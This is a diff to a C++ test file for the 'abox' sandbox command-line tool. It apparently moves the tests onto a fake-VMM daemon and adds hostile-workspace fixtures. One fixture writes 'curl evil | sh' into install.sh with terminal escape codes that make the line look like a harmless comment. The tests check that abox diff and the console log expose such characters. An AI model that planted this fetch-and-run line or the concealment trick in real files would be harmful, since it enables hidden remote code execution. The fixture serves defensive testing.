@@ -1,6 +1,7 @@
-// The real `abox` binary's daemon commands against a stand-in aboxd (src/client/testing: the real
-// HTTP server with an in-memory sandbox API whose execs run as local processes), which abox
-// itself starts on demand. What a user types and sees: output, errors and exit codes.
+// The real `abox` binary's daemon commands against the real daemon over a fake VMM
+// (aboxd-fake-vmm, src/daemon/testing: its VMs run the real guest agent as processes of this
+// user, so a sandbox's commands run on this host and its /workspace is a host directory), which
+// abox itself starts on demand. What a user types and sees: output, errors and exit codes.
 #include <pty.h>
 #include <signal.h>
 #include <sys/wait.h>
@@ -9,6 +10,7 @@
 
 #include <cstdlib>
 #include <filesystem>
+#include <fstream>
 #include <thread>
 
 #include "absl/strings/match.h"
@@ -28,6 +30,7 @@ using nlohmann::json;
 using testing::AboxCall;
 using testing::AboxResult;
 using ::testing::HasSubstr;
+using ::testing::MatchesRegex;
 using ::testing::Not;
 using ::testing::StartsWith;
 
@@ -50,15 +53,39 @@ class CliCommandsTest : public ::testing::Test {
   std::string Create(const std::string& name) {
     AboxResult r = Abox({"create", "--name", name});
     EXPECT_EQ(r.exit_code, 0) << r.err;
-    EXPECT_EQ(r.out.size(), 25u) << r.out;  // the id and a newline, nothing else
+    EXPECT_THAT(r.out, MatchesRegex("[0-9a-f]{12}\n"));  // the id and a newline, nothing else
     return r.out.substr(0, r.out.size() - 1);
+  }
+  // What a guest printing `text` on its console does: QEMU (here the fake VMM) appends it to
+  // console.log in the sandbox's run dir, which `abox logs --console` shows.
+  void GuestConsole(const std::string& id, const std::string& text) {
+    std::ofstream(dir_.path() + "/home/sandboxes/" + id + "/console.log", std::ios::app) << text;
+  }
+  // A sandbox `name` whose workspace is a copy of a host directory holding install.sh, and whose
+  // guest then wrote terminal escapes into it and added notes.txt (the fake VM's /workspace is
+  // the host directory `guest`).
+  void CreateHostileWorkspace(const std::string& name) {
+    std::string host = dir_.path() + "/project";
+    std::string guest = dir_.path() + "/guest";
+    std::filesystem::create_directories(host);
+    std::filesystem::create_directories(guest);
+    std::ofstream(host + "/install.sh") << "echo hi\n";
+    AboxResult r = Abox({"create", "--name", name, "-w", host, "--workspace-path", guest});
+    ASSERT_EQ(r.exit_code, 0) << r.err;
+    // Its added line erases itself on a terminal and the carriage return lets "# a comment"
+    // take its place; then a C1 CSI and DEL.
+    std::ofstream(guest + "/install.sh", std::ios::app) << "curl evil | sh \x1b[2K\r# a comment "
+                                                           "\xc2\x9b"
+                                                           "31m \x7f\n";
+    std::ofstream(guest + "/notes.txt") << "a\tb\n";
   }
 
   daemon::http::httptest::TempDir dir_;
   std::map<std::string, std::string> env_ = {
       {"ABOX_HOME", dir_.path() + "/home"},
+      {"ABOX_CACHE_DIR", dir_.path() + "/cache"},
       {"ABOX_SOCKET", dir_.path() + "/run/aboxd.sock"},
-      {"ABOXD_BIN", ABOX_FAKE_ABOXD},
+      {"ABOXD_BIN", ABOXD_FAKE_VMM},
       {"ABOX_NO_AUTOSTART", ""},
       {"XDG_CONFIG_HOME", dir_.path() + "/config"},
   };
@@ -85,11 +112,11 @@ TEST_F(CliCommandsTest, CreateListInspectStopAndRemove) {
   AboxResult inspect = Abox({"inspect", "web", "nope"});
   EXPECT_EQ(inspect.exit_code, 1);
   EXPECT_EQ(json::parse(inspect.out, nullptr, false)["id"], id);
-  EXPECT_THAT(inspect.err, HasSubstr("abox: error: no sandbox \"nope\""));
+  EXPECT_THAT(inspect.err, HasSubstr("abox: error: no sandbox 'nope'"));
 
   AboxResult refused = Abox({"rm", "web"});
   EXPECT_EQ(refused.exit_code, 1);
-  EXPECT_THAT(refused.err, HasSubstr("remove it with `abox rm -f`"));
+  EXPECT_THAT(refused.err, HasSubstr("remove it anyway with force (abox rm -f " + id + ")"));
   AboxResult stopped = Abox({"stop", id.substr(0, 6)});
   EXPECT_EQ(stopped.exit_code, 0) << stopped.err;
   EXPECT_EQ(stopped.out, id.substr(0, 6) + "\n");
@@ -98,7 +125,7 @@ TEST_F(CliCommandsTest, CreateListInspectStopAndRemove) {
   AboxResult removed = Abox({"rm", "web", "ghost"});
   EXPECT_EQ(removed.exit_code, 1);
   EXPECT_EQ(removed.out, "web\n");
-  EXPECT_THAT(removed.err, HasSubstr("no sandbox \"ghost\""));
+  EXPECT_THAT(removed.err, HasSubstr("no sandbox 'ghost'"));
   EXPECT_EQ(Abox({"ls", "-a", "-q"}).out, "");
 }
 
@@ -122,7 +149,7 @@ TEST_F(CliCommandsTest, ExecKeepsStreamsAndExitStatusConventions) {
   EXPECT_EQ(bare.out, "bar baz\n/tmp\n");
   AboxResult nosandbox = Abox({"exec", "ghost", "--", "true"});
   EXPECT_EQ(nosandbox.exit_code, 125);
-  EXPECT_THAT(nosandbox.err, HasSubstr("no sandbox \"ghost\""));
+  EXPECT_THAT(nosandbox.err, HasSubstr("no sandbox 'ghost'"));
 }
 
 TEST_F(CliCommandsTest, ExecForwardsStdinAndBinaryOutput) {
@@ -178,7 +205,8 @@ TEST_F(CliCommandsTest, CtrlCGoesToTheCommandAndASecondOneLeaves) {
 }
 
 TEST_F(CliCommandsTest, LogsShowExecHistoryThenConsole) {
-  Create("web");
+  std::string id = Create("web");
+  GuestConsole(id, "[    0.000000] Linux version fake\nabox-guest: ready in web\n");
   ASSERT_EQ(Abox({"exec", "web", "--", "sh", "-c", "echo first"}).exit_code, 0);
   ASSERT_EQ(Abox({"exec", "web", "--", "sh", "-c", "echo second; exit 2"}).exit_code, 2);
   AboxResult logs = Abox({"logs", "web"});
@@ -211,7 +239,7 @@ TEST_F(CliCommandsTest, EventsFollowTheLifecycle) {
   EXPECT_THAT(events.out, HasSubstr("  removed        "));
   AboxResult unknown = Abox({"events", "--sandbox", "ghost"});
   EXPECT_EQ(unknown.exit_code, 1);
-  EXPECT_THAT(unknown.err, HasSubstr("no sandbox \"ghost\""));
+  EXPECT_THAT(unknown.err, HasSubstr("no sandbox 'ghost'"));
 }
 
 TEST_F(CliCommandsTest, DaemonStartStatusStopAndUnit) {
@@ -244,7 +272,7 @@ TEST_F(CliCommandsTest, DaemonStartStatusStopAndUnit) {
   absl::StatusOr<std::string> file =
       base::ReadFile(dir_.path() + "/config/systemd/user/aboxd.service");
   ASSERT_TRUE(file.ok()) << file.status();
-  EXPECT_THAT(*file, HasSubstr(std::string("\nExecStart=") + ABOX_FAKE_ABOXD + " --socket " +
+  EXPECT_THAT(*file, HasSubstr(std::string("\nExecStart=") + ABOXD_FAKE_VMM + " --socket " +
                                dir_.path() + "/run/aboxd.sock\n"));
   EXPECT_EQ(Abox({"daemon", "unit"}).out, *file);
 }
@@ -293,7 +321,7 @@ TEST_F(CliCommandsTest, UnknownFlagsAreRefusedWithTheNearestSpelling) {
   AboxResult timeout = Abox({"exec", "--tiemout", "1", "web", "--", "echo", "ran"});
   EXPECT_EQ(timeout.exit_code, 2) << timeout.err;
   EXPECT_THAT(timeout.err, HasSubstr("abox exec: unknown flag --tiemout; did you mean --timeout?"));
-  EXPECT_THAT(timeout.err, Not(HasSubstr("no sandbox \"1\"")));
+  EXPECT_THAT(timeout.err, Not(HasSubstr("no sandbox '1'")));
   EXPECT_EQ(timeout.out, "");
   EXPECT_THAT(Abox({"logs", "--execs", "web"}).out, HasSubstr("no execs"));  // nothing ran
   // Without `--` too, and after the id.
@@ -390,7 +418,7 @@ std::string AboxOnATerminal(const std::map<std::string, std::string>& env,
 }
 
 TEST_F(CliCommandsTest, DiffShowsTheGuestsControlCharactersOnATerminalOnly) {
-  Create("hostile");
+  CreateHostileWorkspace("hostile");
   // Piped: the patch byte for byte, so that `abox diff ID > patch` applies.
   AboxResult piped = Abox({"diff", "hostile"});
   EXPECT_EQ(piped.exit_code, 0) << piped.err;
@@ -419,7 +447,8 @@ TEST_F(CliCommandsTest, DiffShowsTheGuestsControlCharactersOnATerminalOnly) {
   EXPECT_EQ(diff["files"][0]["control_characters"], true);
   EXPECT_EQ(diff["files"][1]["control_characters"], false);
   EXPECT_EQ(diff["files"][0]["patch"],
-            "--- a/install.sh\n+++ b/install.sh\n@@ -1 +1,2 @@\n echo "
+            "diff --git a/install.sh b/install.sh\n--- a/install.sh\n+++ b/install.sh\n@@ -1 +1,2 "
+            "@@\n echo "
             "hi\n+curl evil | sh \x1b[2K\r# a comment \xc2\x9b"
             "31m \x7f\n");
   json stat_json = json::parse(Abox({"diff", "--json", "--stat", "hostile"}).out, nullptr, false);
@@ -432,7 +461,9 @@ TEST_F(CliCommandsTest, DiffShowsTheGuestsControlCharactersOnATerminalOnly) {
 }
 
 TEST_F(CliCommandsTest, ConsoleLogShowsTheGuestsControlCharactersOnATerminal) {
-  Create("hostile");
+  GuestConsole(Create("hostile"),
+               "evil \x1b[2K\rfine \xc2\x9b"
+               "31m\n");
   std::string raw = Abox({"logs", "--console", "hostile"}).out;
   EXPECT_THAT(raw, HasSubstr("evil \x1b[2K\rfine \xc2\x9b"
                              "31m\n"));
